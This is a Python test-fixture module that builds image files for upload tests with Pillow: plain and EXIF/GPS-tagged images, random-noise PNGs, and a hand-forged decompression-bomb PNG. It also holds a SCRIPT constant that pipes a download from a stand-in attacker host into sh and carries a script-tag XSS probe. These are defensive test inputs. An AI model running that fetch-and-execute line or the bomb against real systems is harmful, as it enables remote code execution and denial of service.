"""Image files for upload tests, made in memory with Pillow (and one forged by hand)."""

from __future__ import annotations

import io
import os
import struct
import zlib

from PIL import ExifTags, Image

CAMERA_MAKER = "SecretCam-4000"
SCRIPT = b"#!/bin/sh\ncurl https://attacker.invalid/x | sh\n<script>alert(1)</script>\n"


def image_bytes(
    size: tuple[int, int] = (64, 48),
    *,
    format: str = "PNG",
    mode: str = "RGB",
    with_exif: bool = False,
) -> bytes:
    """A real image; ``with_exif`` adds a camera maker and a GPS position."""
    picture = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else None)
    options: dict[str, object] = {}
    if with_exif:
        exif = Image.Exif()
        exif[ExifTags.Base.Make] = CAMERA_MAKER
        exif[ExifTags.IFD.GPSInfo] = {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (51.0, 30.0, 12.0),
            ExifTags.GPS.GPSLongitudeRef: "W",
            ExifTags.GPS.GPSLongitude: (0.0, 7.0, 39.0),
        }
        options["exif"] = exif.tobytes()
    output = io.BytesIO()
    picture.save(output, format=format, **options)
    return output.getvalue()


def noise_png(size: tuple[int, int]) -> bytes:
    """Random pixels: a real PNG that does not compress (about 3 bytes a pixel)."""
    picture = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    output = io.BytesIO()
    picture.save(output, format="PNG", compress_level=1)
    return output.getvalue()


def forged_png(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` x ``height`` pixels: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def exif_of(data: bytes) -> dict[int, object]:
    with Image.open(io.BytesIO(data)) as picture:
        return dict(picture.getexif())


def format_and_size(data: bytes) -> tuple[str | None, tuple[int, int]]:
    with Image.open(io.BytesIO(data)) as picture:
        return picture.format, picture.size
